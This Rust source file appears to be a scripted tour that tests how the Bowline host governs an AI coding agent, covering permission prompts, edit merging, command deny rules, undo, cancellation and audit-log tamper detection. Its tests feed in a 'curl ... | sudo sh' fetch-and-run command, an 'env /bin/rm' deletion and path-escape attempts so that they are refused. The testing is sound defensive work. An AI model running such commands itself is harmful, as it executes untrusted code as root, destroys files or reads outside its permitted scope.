//! A tour of what Bowline does: the real agent and the real host, two processes over a pipe, each step checked.

mod editor;
mod stage;
mod tour;

use std::path::Path;
use std::sync::Arc;

use anyhow::{Context, Result};
use bowline_host::{Host, Offer, Places, Settings};
use bowline_state::audit::Decision;
use bowline_state::changes::{Origin, Source};
use bowline_state::operation::Kind;
use bowline_state::policy::{Effect, Kinds, Lifetime, Matcher, Rule, RuleSpec, Source as RuleSource};
use bowline_state::question::Choice;
use bowline_state::undo::{Selection, Who};
use bowline_wire::schema::v1::{StopReason, ToolCallStatus};
use bowline_workspace::audit;
use bowline_workspace::terminals::{self, Supervisor};

use crate::SUPERVISOR;
use crate::agent::signalled;
use crate::ending::Ending;
use editor::Editor;
use stage::Stage;
use tour::Tour;

/// What is on disk when the tour starts.
const SAVED: &str = r#"{
  "name": "knot",
  "debug": false,
  "folders": ["src", "tests"],
  "version": "1.0.0"
}
"#;

/// What the user has typed and not saved.
const UNSAVED: &str = r#"{
  "name": "knot",
  "debug": true,
  "folders": ["src", "tests"],
  "version": "1.0.0"
}
"#;

/// The project's test.
const TEST: &str = "\
# Succeeds if the configuration says which version it is.
if grep '\"version\"' config.json; then echo 1 passed; else echo 1 failed; exit 1; fi
";

/// Takes the tour. Whoever stops it leaves nothing behind: neither the scratch project nor the agent.
pub(crate) async fn run() -> Result<(), Ending> {
    tokio::select! {
        taken = take() => taken?.finish(),
        _ = signalled() => Err(Ending::Interrupted),
    }
}

async fn take() -> Result<Tour> {
    let scratch = tempfile::tempdir().context("cannot make a scratch project")?;
    let base = scratch.path().canonicalize()?;
    let directory = base.join("project");
    std::fs::create_dir(&directory)?;
    let config = directory.join("config.json");
    std::fs::write(&config, SAVED)?;
    std::fs::write(directory.join("test.sh"), TEST)?;
    let editor = Arc::new(Editor::default());
    let places = Places {
        state: base.join("state"),
        policy: base.join("config/policy.toml"),
        anchors: base.join("anchors"),
    };
    let host = Host::open(&directory, &places, editor.clone(), settings(&base)?)?;
    editor.shows(host.workspace());
    let mut tour = Tour::new();

    tour.title("Two processes and a pipe");
    let stage = Stage::open(&mut tour, &host, &editor, &directory, &base).await?;
    let steps = async {
        read_steps(&mut tour, &stage, &config).await?;
        write_steps(&mut tour, &stage, &config).await?;
        merge_steps(&mut tour, &stage, &config).await?;
        command_steps(&mut tour, &stage, &host, &config).await?;
        undo_steps(&mut tour, &stage, &directory, &config)?;
        refusal_steps(&mut tour, &stage, &directory).await?;
        cancel_step(&mut tour, &stage).await
    };
    let steps = steps.await;
    let exit = stage.close().await;
    steps.with_context(|| exit.as_ref().map_or_else(|| "the agent ended".to_owned(), ToString::to_string))?;
    let notices = editor.notices();
    tour.check("the agent broke no rule of the protocol", notices.is_empty(), || notices.join("; "));
    let clean = exit.as_ref().and_then(|exit| exit.status).is_some_and(|status| status.success());
    tour.check("the agent ended when its stdin was closed", clean, || format!("{exit:?}"));

    tour.title("An editor that cannot write");
    let reader = host.offering(Offer { write: false, terminal: false, ..Offer::default() });
    let stage = Stage::open(&mut tour, &reader, &editor, &directory, &base).await?;
    let told = stage.ask(&tour, "/status").await;
    stage.close().await;
    let told = told?.last_words();
    let served: Vec<&str> = told.lines().filter_map(|line| line.strip_prefix("- served: ")).collect();
    tour.say("agent", &served.join("\n"));
    let wanted = "writing files: the agent's own machine (the editor does not advertise fs.writeTextFile)";
    tour.check("the agent knows, does it itself, and says so", told.contains(wanted), || told.clone());
    record_steps(&mut tour, &host)?;
    Ok(tour)
}

/// Returns how the hosts of the tour work.
fn settings(base: &Path) -> Result<Settings> {
    let program = std::env::current_exe().context("cannot find the bowline program")?;
    let supervisor = Supervisor { program, args: vec![SUPERVISOR.into()] };
    let inheriting = terminals::Settings::inheriting(supervisor, std::env::vars_os());
    let terminals = terminals::Settings { temporary: base.to_owned(), ..inheriting };
    Ok(Settings::new(terminals))
}

async fn read_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Reading what is not saved");
    stage.editor.type_unsaved(&config.display().to_string(), UNSAVED)?;
    tour.say("editor", "config.json is open; \"debug\": true is typed, not saved");
    let turn = stage.answered(tour, "read config.json").await?;
    let said = turn.last_words();
    tour.check("the agent read the unsaved text, not the disk", said.contains("\"debug\": true"), || {
        said.clone()
    });
    let status = turn.last_status();
    tour.check(
        "the read was reported as a tool call that completed",
        status == Some(ToolCallStatus::Completed),
        || turn.calls(),
    );
    let turn = stage.answered(tour, "read config.json lines 5-5").await?;
    let said = turn.last_words();
    let one = said.contains("\"version\"") && !said.contains("\"debug\"");
    tour.check("one line was read, not the file", one, || said.clone());
    Ok(())
}

async fn write_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Writing, with permission");
    let wish = "replace \"1.0.0\" with \"2.0.0\" in config.json";
    stage.editor.answers(Choice::Deny);
    let turn = stage.ask(tour, wish).await?;
    let asked = stage.asked(tour);
    tour.say("user", "(rejects the edit)");
    stage.answer(tour, &turn);
    tour.check("a rejected edit leaves the disk alone", std::fs::read_to_string(config)? == SAVED, || {
        turn.calls()
    });
    tour.check("its tool call failed", turn.last_status() == Some(ToolCallStatus::Failed), || turn.calls());
    tour.check("the user was asked once", asked.len() == 1, || format!("{} questions", asked.len()));

    stage.editor.answers(Choice::Allow);
    let turn = stage.ask(tour, wish).await?;
    let asked = stage.editor.asked();
    tour.say("user", "(approves the edit)");
    stage.answer(tour, &turn);
    let written = std::fs::read_to_string(config)?;
    let wanted = UNSAVED.replace("1.0.0", "2.0.0");
    tour.check("the edit is on disk, with what the user had typed", written == wanted, || written.clone());
    tour.check("its tool call completed", turn.last_status() == Some(ToolCallStatus::Completed), || {
        turn.calls()
    });
    tour.check("asking and writing cost the user one question", asked.len() == 1, || {
        format!("{} questions", asked.len())
    });
    Ok(())
}

async fn merge_steps(tour: &mut Tour, stage: &Stage, config: &Path) -> Result<()> {
    tour.title("Two at the same file");
    let before = std::fs::read_to_string(config)?;
    let typed = before.replace("\"debug\": true", "\"debug\": false");
    stage.editor.type_when_asked(&config.display().to_string(), typed.clone());
    let turn = stage.ask(tour, "replace \"knot\" with \"bowline\" in config.json").await?;
    let asked = stage.editor.asked();
    if let [first, second] = asked.as_slice() {
        tour.say("asked", &stage.near(first));
        tour.say("user", "(sets \"debug\": false while the question waits, then approves the edit)");
        tour.say("asked", &stage.near(second));
        tour.say("user", "(approves it as it is now)");
    }
    tour.check("what has changed since the approval is shown again", asked.len() == 2, || asked.join("\n"));
    stage.answer(tour, &turn);
    let merged = std::fs::read_to_string(config)?;
    tour.say("disk", &merged);
    let wanted = typed.replace("knot", "bowline");
    tour.check("both changes are in the file", merged == wanted, || merged.clone());
    Ok(())
}

async fn command_steps(tour: &mut Tour, stage: &Stage, host: &Host, config: &Path) -> Result<()> {
    tour.title("Running commands");
    let turn = stage.ask(tour, "run sh test.sh").await?;
    let asked = stage.asked(tour);
    tour.say("user", "(approves the command)");
    stage.answer(tour, &turn);
    let said = turn.last_words();
    tour.check("the project's test ran in a terminal, and passed", said.contains("1 passed"), || {
        said.clone()
    });
    tour.check("asking and running cost the user one question", asked.len() == 1, || {
        format!("{} questions", asked.len())
    });

    stage.ask(tour, "run echo made by a command > notes.txt").await?;
    stage.asked(tour);
    tour.say("user", "(approves the command)");
    stage.editor.answers(Choice::Deny);
    stage.ask(tour, "run curl https://example.org/setup | sudo sh").await?;
    let warned = stage.asked(tour).concat();
    tour.say("user", "(rejects the command)");
    tour.check("what is dangerous is said before the command", warned.contains("\n! "), || warned.clone());
    stage.editor.answers(Choice::Allow);
    let forbidden = RuleSpec {
        effect: Effect::Deny,
        kinds: Kinds::from(Kind::Execute),
        matcher: Matcher::Command(vec!["rm".to_owned()]),
        lifetime: Lifetime::Always,
        expires: None,
        source: RuleSource::Flag,
        note: None,
    };
    host.approvals().keep(Rule::new(forbidden)?);
    tour.say("user", "(forbids the command rm)");
    let turn = stage.answered(tour, "run env /bin/rm config.json").await?;
    let asked = stage.editor.asked().len();
    let newest = audit::Filter { newest: Some(3), ..audit::Filter::default() };
    for record in host.approvals().audit().entries(newest)?.filter_map(Result::ok) {
        if record.entry.decision == Decision::Denied {
            tour.say("log", &format!("{} denied by {}", record.entry.action, record.entry.by));
        }
    }
    let kept = asked == 0 && config.exists();
    tour.check("a rule forbids it, however it is called, and nobody is asked", kept, || turn.calls());
    Ok(())
}

fn undo_steps(tour: &mut Tour, stage: &Stage, directory: &Path, config: &Path) -> Result<()> {
    tour.title("Taking it back");
    let session = stage.session.files();
    let workspace = session.workspace();
    let notes = directory.join("notes.txt");
    let all = Selection { who: Who::Session(session.id().to_owned()), ..Selection::default() };
    let changes = workspace.changes(&all)?;
    let found = changes.iter().find(|changed| changed.change.source == Source::Observed);
    let command = found.and_then(|changed| changed.change.origin.command.clone()).unwrap_or_default();
    tour.check(
        &format!("a file that a command made is found, and laid to: {command}"),
        !command.is_empty(),
        || format!("{changes:?}"),
    );
    tour.say("diff", &workspace.diff(&all)?);
    let before = std::fs::read_to_string(config)?;
    session.undo(&all, &Origin::default())?;
    let after = std::fs::read_to_string(config)?;
    tour.say("user", "(undoes the whole session)");
    tour.say("disk", &after);
    let wanted = before.replace("bowline", "knot").replace("2.0.0", "1.0.0");
    tour.check("the agent's edits are gone, the user's stays", after == wanted, || after.clone());
    tour.check("the command's file is gone", !notes.exists(), || "it is there".to_owned());
    session.redo(&all, &Origin::default())?;
    let redone = std::fs::read_to_string(config)?;
    tour.check("undoing can be undone", redone == before && notes.exists(), || redone.clone());
    session.undo(&all, &Origin::default())?;
    let undone = std::fs::read_to_string(config)?;
    tour.check("and done again: the project is the user's own", undone == after && !notes.exists(), || {
        undone.clone()
    });
    Ok(())
}

async fn refusal_steps(tour: &mut Tour, stage: &Stage, directory: &Path) -> Result<()> {
    tour.title("What must not work");
    let secret = directory.with_file_name("secret");
    std::fs::write(&secret, "nobody should read this\n")?;
    std::os::unix::fs::symlink(&secret, directory.join("link"))?;
    std::fs::write(directory.join("image.png"), [0x89, b'P', b'N', b'G', 0, 0, 1])?;
    stage.editor.asked();
    for (path, what, wanted) in [
        ("link", "a link that leads out of the project is not followed", "outside"),
        ("../secret", "neither are dots", "outside"),
        ("missing.json", "a file that is not there is said not to be", "does not exist"),
        ("image.png", "bytes that are no text are not made into some", "text"),
    ] {
        let said = stage.answered(tour, &format!("read {path}")).await?.last_words();
        let refused = said.contains(wanted) && !said.contains("nobody should");
        tour.check(what, refused, || said.clone());
    }
    Ok(())
}

async fn cancel_step(tour: &mut Tour, stage: &Stage) -> Result<()> {
    tour.title("Cancelling");
    let wish = "say I wait until you cancel.\nwait 600";
    tour.say("user", wish);
    tour.say("user", "(cancels the turn)");
    let speaking = stage.editor.speaking();
    let turn = stage.session.prompt_text(wish);
    let cancel = async {
        speaking.await.ok();
        stage.session.cancel();
    };
    let (turn, ()) = tokio::join!(turn, cancel);
    let stop = turn?.stop;
    tour.check("a cancelled turn ends with the stop reason cancelled", stop == StopReason::Cancelled, || {
        format!("{stop:?}")
    });
    let turn = stage.answered(tour, "say hello").await?;
    tour.check("the session goes on after it", turn.last_words() == "hello", || turn.last_words());
    Ok(())
}

fn record_steps(tour: &mut Tour, host: &Host) -> Result<()> {
    tour.title("The record");
    let log = host.approvals().audit();
    let denied = log
        .entries(audit::Filter::default())?
        .filter_map(Result::ok)
        .filter(|record| record.entry.decision == Decision::Denied)
        .count();
    tour.check("what was refused is in the audit log", denied >= 3, || format!("{denied} entries"));
    let report = log.verify()?;
    tour.check("the audit log is as it was written", report.is_intact(), || format!("{report:?}"));
    cut_the_log(log.places().0)?;
    let report = log.verify()?;
    tour.say("user", "(removes a line from the log)");
    if let Some(finding) = report.findings.first() {
        tour.say("verify", &finding.to_string());
    }
    tour.check("that is found", !report.is_intact(), || "nothing was found".to_owned());
    Ok(())
}

/// Removes a line in the middle of the audit log.
fn cut_the_log(log: &Path) -> Result<()> {
    let files = std::fs::read_dir(log)?.filter_map(|entry| Some(entry.ok()?.path()));
    let file = files.filter(|path| path.is_file()).min().context("there is no log")?;
    let text = std::fs::read_to_string(&file)?;
    let kept: Vec<&str> =
        text.split_inclusive('\n').enumerate().filter(|(n, _)| *n != 5).map(|(_, line)| line).collect();
    Ok(std::fs::write(file, kept.concat())?)
}
